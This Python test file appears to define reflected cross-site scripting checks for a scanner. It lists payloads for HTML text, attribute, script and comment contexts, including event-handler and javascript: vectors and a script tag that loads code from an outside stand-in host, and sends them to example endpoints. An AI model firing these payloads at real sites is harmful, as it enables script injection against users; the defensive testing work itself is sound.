# SPDX-License-Identifier: GPL-2.0-or-later
"""Script that a page throws back: in text, attributes, links, script strings, comments, JSON, plain text; escaped and raw."""
from lib.steps import get, values

TEXT = ['<script>alert(73115)</script>', '<img src=x onerror=alert(73116)>', '<svg/onload=confirm(73117)>', '<b>fett</b>', '<ScRiPt>prompt(73118)</sCrIpT>', '<details open ontoggle=alert(73119)>x</details>', '<a href="javascript:alert(73120)">da</a>', '<!--<script>alert(73121)</script>-->',
        '<textarea><script>alert(73122)</script></textarea>', '<iframe srcdoc="<script>alert(73123)</script>"></iframe>', '<script src=//192.0.2.99/x.js></script>', '&lt;script&gt;alert(73124)&lt;/script&gt;', '<body onpageshow=alert(73125)>', '3 < 5 > 2', '<script>alert`73126`</script>', '<input autofocus onfocus=alert(73127)>']
ATTRIBUTE = ['" onmouseover="alert(73130)', '"><script>alert(73131)</script>', "' onfocus='alert(73132)", '"><img src=x onerror=alert(73133)>', '<script>alert(73134)</script>', 'javascript:alert(73135)', '" autofocus onfocus=alert(73136) x="', "'><svg onload=alert(73137)>"]
SCRIPT = ["';alert(73140);//", "'-alert(73141)-'", '</script><script>alert(73142)</script>', "alert(73143)", "\\';alert(73144);//", '";alert(73145);//', "'+confirm(73146)+'"]
SCENARIO = [
    ([('203.0.113.31', 80), ('203.0.113.33', 80)], [
        get('/meldung?hinweis=Guten+Tag'), *values('/meldung', 'hinweis', 'xss', *TEXT, gzip=True, keep=True), *values('/meldung?wo=attribut', 'hinweis', 'xss', *ATTRIBUTE), *values('/meldung?wo=skript', 'hinweis', 'xss', *SCRIPT),
        *values('/meldung?hinweis=Hallo', 'farbe', 'xss', *ATTRIBUTE[:4]), *values('/suche', 'begriff', 'xss', *TEXT[:6]), *values('/gibtsnicht', 'a', 'xss', *TEXT[:3])]),
    ([('203.0.113.51', 8000), ('203.0.113.53', 8000)], [
        get('/avis?auteur=Lise'), *values('/avis', 'auteur', 'xss', *ATTRIBUTE, *TEXT[:4]), *values('/avis?format=lien', 'auteur', 'xss', 'javascript:alert(73150)', ' JaVaScRiPt:alert(73151)', 'https://a.example/"onclick=alert(73152) b="', 'data:text/html,<script>alert(73153)</script>', '#'),
        *values('/avis?format=commentaire', 'auteur', 'xss', '--><script>alert(73154)</script>', '<script>alert(73155)</script>', '--!><img src=x onerror=alert(73156)>'), *values('/avis?format=json', 'auteur', 'xss', *TEXT[:3]), *values('/avis?format=texte', 'auteur', 'xss', *TEXT[:3])])]
